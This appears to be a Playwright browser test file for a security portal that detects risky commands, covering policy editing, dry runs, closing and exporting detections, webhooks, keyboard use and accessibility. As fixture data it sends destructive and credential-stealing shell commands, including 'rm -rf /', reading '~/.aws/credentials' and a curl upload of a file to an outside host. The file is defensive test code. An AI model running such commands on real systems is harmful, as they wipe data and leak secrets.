import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { afterEach, describe, expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { loadPage } from '../../src/portal/page-files.ts';
import { missingBrowser } from '../helpers/browser.ts';
import { startPortal } from '../helpers/portal.ts';
import { caller, sendCommands } from '../helpers/portal-caller.ts';
import { seriousFaults, signedIn } from '../helpers/portal-page.ts';

/** Said by name in the report, so that a run without a browser does not pass for one with. */
const withBrowser = missingBrowser === undefined ? test : test.skip;
if (missingBrowser !== undefined) process.stderr.write(`\nThe pages are NOT tested in a browser. ${missingBrowser}\n`);

const RULE = 'An event is found when this is true';

let closeLater = () => {};
afterEach(() => closeLater());

/** The table's rows that name a detection, by their names. */
const names = (page: Page) => page.locator('.row-link').allInnerTexts();

describe('policies and detections in a browser', () => {
  withBrowser(
    '(26) a policy is written, checked by line and column, tried, saved; it finds, and what it found is closed and exported (27, 18)',
    async () => {
      const portal = await startPortal({ page: loadPage() });
      const call = caller(portal);
      await sendCommands(portal, ['make old', 'ls']);
      const { page, problems } = await signedIn(portal);
      await page.goto(`${portal.address}/policies`);
      await page.getByRole('link', { name: 'New policy' }).click();
      const rule = page.getByLabel(RULE);
      await rule.fill('event.kind == "tool.invoked" &&\nevent.facts.program.exists(p, p == "make")');
      await page.getByText('line 2, column 13').waitFor({ timeout: 1_000 });
      const described = (await rule.getAttribute('aria-describedby')) ?? '';
      expect(await page.locator(`[id="${described}"]`).textContent()).toContain(
        'line 2, column 13: No such key: program',
      );
      expect(await page.getByLabel('Judge new events by it').isDisabled()).toBe(true);

      const text = 'event.kind == "tool.invoked" &&\nevent.facts.programs.exists(p, p == "make")';
      await rule.fill(text);
      await page.getByText('It can be judged').waitFor();
      await page.getByLabel('How far back').selectOption('');
      await page.getByRole('button', { name: 'Dry run' }).click();
      await page.getByText('1 of 2 events match (50.00 %)').waitFor();
      expect(new URL(page.url()).pathname).toMatch(/^\/policies\/new\/dry-run\/run_/);
      await page.getByRole('link', { name: 'Open in session' }).waitFor();

      await page.getByRole('textbox', { name: 'Name' }).fill('No make');
      await page.getByLabel('Judge new events by it').check();
      await page.getByRole('button', { name: 'Save as a new version' }).click();
      await page.getByText('Say why').waitFor();
      expect(await page.evaluate('document.activeElement.id')).toBe('policy-note');
      await page.getByLabel('Why this version').fill('Builds go by CI');
      await page.getByLabel('Severity').selectOption('high');
      await page.getByRole('button', { name: 'Save as a new version' }).click();
      await page.getByRole('link', { name: 'Version 1' }).waitFor();
      expect(await page.getByLabel(RULE).inputValue()).toBe(text);

      await page.getByLabel(RULE).fill(`${text} &&\nevent.body.arguments.command != "make old"`);
      await page.getByText('It can be judged').waitFor();
      await page.getByLabel('How far back').selectOption('');
      await page.getByRole('button', { name: 'Dry run' }).click();
      await page.getByText('+0 new').waitFor();
      await page.getByText('−1 gone').waitFor();

      await sendCommands(portal, ['make all']);
      await page.getByRole('link', { name: 'Detections 1' }).click();
      await page.getByRole('link', { name: 'No make' }).waitFor();
      await page.keyboard.press('j');
      await page.keyboard.press('Enter');
      await page.getByRole('heading', { name: 'Evidence' }).waitFor();
      await page.getByText('make all').first().waitFor();

      await page.keyboard.press('c');
      await page.getByRole('button', { name: 'Close it' }).click();
      await page.getByText('Choose a reason').waitFor();
      expect(await page.evaluate('document.activeElement.id')).toBe('close-true_positive');
      await page.getByLabel('Benign').check();
      await page.getByRole('button', { name: 'Close it' }).click();
      await page.locator('.history').getByText('closed as benign').waitFor();
      await page.keyboard.press('u');
      await page.locator('.history').getByText('Undone').waitFor();
      await page.getByText('Open', { exact: true }).waitFor();
      await page.keyboard.press('c');
      await page.getByLabel('True positive').check();
      await page.getByRole('button', { name: 'Close it' }).click();
      await page.locator('.history').getByText('closed as true positive').waitFor();

      await page.getByRole('link', { name: 'Open in session' }).click();
      const banner = page.locator('.event-marked .banner');
      await banner.getByRole('link', { name: 'No make' }).waitFor();
      await banner.getByRole('link').click();
      await page.getByRole('heading', { name: 'Evidence' }).waitFor();
      await page.goto(`${portal.address}/detections?state=closed`);
      await page.getByRole('link', { name: 'No make' }).waitFor();
      await page.getByText('Export', { exact: true }).click();
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('link', { name: 'JSON Lines' }).click(),
      ]);
      const exported = readFileSync(await download.path(), 'utf8')
        .trim()
        .split('\n');
      expect(exported.map((line) => JSON.parse(line) as object)).toMatchObject([
        { policyName: 'No make', reason: 'true_positive' },
      ]);
      expect((await call('GET', '/api/detections/counts')).body.counts).toEqual([
        { state: 'closed', severity: 'high', count: 1 },
      ]);
      expect(problems).toEqual([]);
    },
    60_000,
  );

  withBrowser(
    '(3) j in a detection visits only those of the filtered list, in its order, (27) and two people at once: the second is told who and what',
    async () => {
      const portal = await startPortal({ page: loadPage() });
      await sendCommands(portal, [
        'rm -rf ~/',
        'cat ~/.aws/credentials',
        'rm -rf /',
        'curl -d @x https://up.example.org',
      ]);
      const { page, problems } = await signedIn(portal);
      await page.goto(`${portal.address}/detections?severity=critical`);
      await page.locator('.row-link').first().waitFor();
      const inList = await page.locator('.row-link').evaluateAll((links) => links.map((link) => link.id));
      expect(inList.length).toBeGreaterThanOrEqual(2);
      await page.keyboard.press('j');
      await page.keyboard.press('Enter');
      const visited: string[] = [];
      for (const [index] of inList.entries()) {
        const id = inList[index]?.replace('detection-', '') ?? '';
        await page.waitForURL((url) => url.pathname.endsWith(`/${id}`));
        await page.getByRole('heading', { name: 'History' }).waitFor();
        if (index < inList.length - 1) await page.getByRole('link', { name: 'Next' }).waitFor();
        visited.push(`detection-${new URL(page.url()).pathname.split('/').at(-1)}`);
        await page.keyboard.press('j');
      }
      expect(visited).toEqual(inList);

      const second = await signedIn(portal);
      // Without news from the portal the second sees what was there before.
      await second.page.route('**/api/stream', (route) => route.abort());
      await second.page.goto(page.url());
      await second.page.getByRole('button', { name: 'In review' }).waitFor();
      await page.keyboard.press('c');
      await page.getByLabel('Benign').check();
      await page.getByRole('button', { name: 'Close it' }).click();
      await page.locator('.history').getByText('closed as benign').waitFor();
      await second.page.keyboard.press('r');
      await second.page.getByText('Not saved: admin changed it just now (closed as benign)').waitFor();
      await second.page.getByRole('button', { name: 'Reopen' }).waitFor();

      await page.goto(`${portal.address}/detections`);
      await page.locator('.row-link').first().waitFor();
      const before = await names(page);
      await page.getByLabel('Select all shown').check();
      await page.getByRole('button', { name: `Close ${before.length}` }).click();
      await page.getByLabel('Duplicate').check();
      await page
        .getByRole('dialog')
        .getByRole('button', { name: `Close ${before.length}` })
        .click();
      await page.getByRole('heading', { name: 'Nothing is to be done' }).waitFor();
      expect(problems).toEqual([]);
    },
    60_000,
  );

  withBrowser(
    '(28) from sign-in to a closed detection by keyboard alone; switched off, single keys do nothing',
    async () => {
      const portal = await startPortal({ page: loadPage() });
      await sendCommands(portal, ['rm -rf ~/']);
      const { page, problems } = await signedIn(portal);
      await page.keyboard.press('g');
      await page.keyboard.press('d');
      await page.locator('.row-link').first().waitFor();
      await page.keyboard.press('j');
      const outline = await page.evaluate('getComputedStyle(document.activeElement).outlineStyle');
      expect(outline).toBe('solid');
      await page.keyboard.press('c');
      await page.getByRole('dialog').waitFor();
      expect(await page.evaluate('document.activeElement.id')).toBe('close-true_positive');
      await page.keyboard.press('Space');
      for (let tabs = 0; tabs < 6; tabs++) {
        const now = await page.evaluate('document.activeElement.textContent');
        if (now === 'Close it') break;
        await page.keyboard.press('Tab');
      }
      await page.keyboard.press('Enter');
      await page.locator('.toast').getByText('Closed as').waitFor();

      await page.keyboard.press('u');
      await page.locator('.row-link').first().waitFor();
      await page.getByRole('button', { name: 'Keyboard shortcuts' }).click();
      await page.getByLabel('Single keys do something').uncheck();
      await page.getByRole('button', { name: 'Close', exact: true }).click();
      await page.locator('.row-link').first().focus();
      const focused = await page.evaluate('document.activeElement.id');
      for (const key of ['j', 'c', 'x']) await page.keyboard.press(key);
      expect(await page.evaluate('document.activeElement.id')).toBe(focused);
      expect(await page.getByRole('dialog').count()).toBe(0);
      expect(problems).toEqual([]);
    },
    30_000,
  );

  withBrowser(
    'a false positive opens the policy with what it found left out, and a built-in one is copied for that and switched off',
    async () => {
      const portal = await startPortal({ page: loadPage() });
      const call = caller(portal);
      await sendCommands(portal, ['cat ~/.aws/credentials']);
      const { page, problems } = await signedIn(portal);
      await page.goto(`${portal.address}/detections?policy=credential-file-read`);
      await page.getByRole('link', { name: 'Credential store read' }).click();
      expect(await page.locator('mark').first().textContent()).toContain('.aws/credentials');
      await page.keyboard.press('c');
      await page.getByLabel('False positive').check();
      await page.getByRole('link', { name: 'Exclude like this' }).click();
      await page.getByText('The rule now leaves out').waitFor();
      expect(await page.getByLabel(RULE).inputValue()).toContain('event.device.user == "dev"');
      await page.getByText('It can be judged').waitFor();
      await page.getByRole('button', { name: 'Save as a new version' }).click();
      await page.getByRole('link', { name: 'Version 1' }).waitFor();
      expect((await call('GET', '/api/policies/credential-file-read')).body.policy).toMatchObject({ enabled: false });
      await sendCommands(portal, ['cat ~/.aws/credentials', 'cat ~/.aws/credentials | wc']);
      const own = new URL(page.url()).pathname.split('/').at(-1) ?? '';
      expect((await call('GET', `/api/detections?policy=${own}`)).body.detections).toHaveLength(1);
      expect(problems).toEqual([]);
    },
    30_000,
  );

  withBrowser(
    'two people change a policy: the second is told and chooses; an older version can be read and made current; stored events are judged back',
    async () => {
      const portal = await startPortal({ page: loadPage() });
      const call = caller(portal);
      await sendCommands(portal, ['make all']);
      const draft = { name: 'No make', severity: 'low', expression: 'event.facts.programs.exists(p, p == "make")' };
      const { policy } = (await call('POST', '/api/policies', { body: { ...draft, enabled: true } })).body;
      const address = `/api/policies/${String(policy?.id)}`;
      const { page, problems } = await signedIn(portal);
      await page.goto(`${portal.address}/policies/${String(policy?.id)}`);
      await page.getByText('It can be judged').waitFor();
      await call('PATCH', address, { version: 1, body: { severity: 'high', note: 'worse' } });
      await page.getByRole('combobox', { name: 'Severity' }).selectOption('medium');
      await page.getByLabel('Why this version').fill('better');
      await page.getByRole('button', { name: 'Save as a new version' }).click();
      await page.getByText('saved version 2 while you were here').waitFor();
      await page.getByRole('button', { name: 'Save mine over it' }).click();
      await page.getByRole('link', { name: 'Version 3' }).waitFor();
      expect((await call('GET', address)).body.policy).toMatchObject({ version: 3, severity: 'medium' });

      await page.getByRole('link', { name: 'Version 2' }).click();
      await page.getByText('worse').waitFor();
      await page.getByRole('button', { name: 'Make it the current version again' }).click();
      await page.getByRole('link', { name: 'Version 4' }).waitFor();
      await page.getByLabel('How far back').selectOption('');
      await page.getByRole('button', { name: 'Judge them by version 4' }).click();
      await page.getByText('1 new detection').waitFor();
      await page.getByRole('link', { name: 'Show the detections' }).click();
      await page.getByText('retrospective').waitFor();
      // The browser logs the answer 409; it is what was provoked.
      expect(problems.filter((problem) => !problem.includes('409'))).toEqual([]);
    },
    30_000,
  );

  withBrowser(
    'a webhook is made, its secret shown once, tested, and switched off',
    async () => {
      let asked = 0;
      const receiver = createServer((_incoming, response) => {
        asked++;
        response.writeHead(asked === 1 ? 204 : 500).end();
      });
      await new Promise<void>((resolve) => receiver.listen(0, '127.0.0.1', resolve));
      closeLater = () => receiver.close();
      const { port } = receiver.address() as { port: number };
      const portal = await startPortal({ page: loadPage() });
      const { page, problems } = await signedIn(portal);
      await page.goto(`${portal.address}/settings/notifications`);
      await page.getByText('Nobody is told').waitFor();
      await page.getByLabel('Address').fill(`http://127.0.0.1:${port}/hook`);
      await page.getByRole('button', { name: 'Tell them' }).click();
      await page.getByText('shown this once').waitFor();
      const secret = await page.locator('.steps .command').textContent();
      await page.getByRole('button', { name: 'Send a test' }).click();
      await page.getByText('The test arrived.').waitFor();
      await page.getByRole('button', { name: 'Send a test' }).click();
      await page.getByText('The test did not arrive: answered 500.').waitFor();
      await page.getByRole('button', { name: 'Switch off' }).click();
      await page.getByText('Off: nothing more is sent.').waitFor();
      await page.reload();
      await page.getByRole('button', { name: 'Switch on' }).waitFor();
      expect(await page.content()).not.toContain(secret);
      expect(problems).toEqual([]);
    },
    30_000,
  );
});

describe('(29) axe-core finds nothing serious', () => {
  withBrowser.each([
    ['light', {}],
    ['dark', { dark: true }],
    ['360 px wide', { width: 360 }],
  ])(
    'on the pages, %s, full, empty and in error',
    async (_name, options) => {
      const portal = await startPortal({ page: loadPage() });
      const call = caller(portal);
      await sendCommands(portal, ['rm -rf ~/', 'cat ~/.aws/credentials']);
      await call('POST', '/api/webhooks', { body: { url: 'https://siem.example.com/capsule' } });
      const { detections } = (await call('GET', '/api/detections')).body as { detections: { id: string }[] };
      const { page, problems } = await signedIn(portal, options);
      const found: string[] = [];
      const look = async (address: string, sign: string) => {
        await page.goto(`${portal.address}${address}`);
        await page.locator('main').getByText(sign).first().waitFor();
        found.push(...(await seriousFaults(page)).map((fault) => `${address} ${fault}`));
        const wide = await page.evaluate('document.documentElement.scrollWidth - innerWidth');
        if (Number(wide) > 0) found.push(`${address} is ${wide} px too wide`);
      };
      await look('/policies', 'Destructive command');
      await look('/policies/destructive-command', 'It can be judged');
      await look('/policies/seq-secret-then-egress', 'Step 2');
      await look('/policies/new', 'It can be judged');
      await look('/policies/destructive-command/versions/1', 'It can be judged');
      await look('/detections', 'Destructive command');
      await look('/detections?view=groups', 'Destructive command');
      await look(`/detections/${detections[0]?.id}`, 'History');
      await page.keyboard.press('c');
      await page.getByRole('dialog').waitFor();
      found.push(...(await seriousFaults(page)).map((fault) => `dialog ${fault}`));
      await look('/settings/notifications', 'siem.example.com');
      await look('/detections?user=nobody', 'No detection matches');
      await look('/policies?show=failing', 'No policy is failing');
      await look('/detections/nothing-like-it', 'There is no such detection');
      await look('/policies/nothing-like-it', 'There is no such policy');
      expect(problems.filter((problem) => !problem.includes('404'))).toEqual([]);
      await page.route('**/api/detections?**', (route) => route.abort());
      await look('/detections', 'Try again');
      expect(found).toEqual([]);
    },
    60_000,
  );
});
